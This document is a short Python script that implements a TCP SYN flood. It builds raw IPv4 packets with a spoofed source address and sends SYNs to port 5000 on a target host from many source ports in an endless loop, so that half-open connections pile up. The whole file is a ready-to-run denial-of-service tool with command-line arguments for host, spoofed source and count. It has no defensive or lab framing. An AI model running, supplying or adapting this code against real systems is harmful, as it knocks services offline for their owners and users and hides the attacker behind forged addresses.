"""SYNs from an address where nobody is, so that handshakes stay half done (needs NET_RAW): HOST SOURCE COUNT."""

import socket
import struct
import sys
import time

_SYN = 0x02
_INTERVAL_S = 1.0


def checksum(data: bytes) -> int:
    """Return the Internet checksum (RFC 1071) of an even number of bytes."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source: bytes, target: bytes, port: int) -> bytes:
    """Return an IPv4 packet with a SYN to port 5000; its own checksum and length are the kernel's to fill in."""
    header = struct.pack("!HHIIBBHHH", port, 5000, port, 0, 5 << 4, _SYN, 65_535, 0, 0)
    pseudo = source + target + struct.pack("!HH", socket.IPPROTO_TCP, len(header))
    segment = header[:16] + struct.pack("!H", checksum(pseudo + header)) + header[18:]
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0, source, target) + segment


def main(host: str, source: str, count: int) -> None:
    """Send one from each of so many ports, again and again: the kernel gives up some of them each second."""
    address = socket.gethostbyname(host)
    ends = socket.inet_aton(source), socket.inet_aton(address)
    packets = [syn(*ends, port) for port in range(1024, 1024 + count)]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        while True:
            for packet in packets:
                sock.sendto(packet, (address, 0))
            time.sleep(_INTERVAL_S)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]))
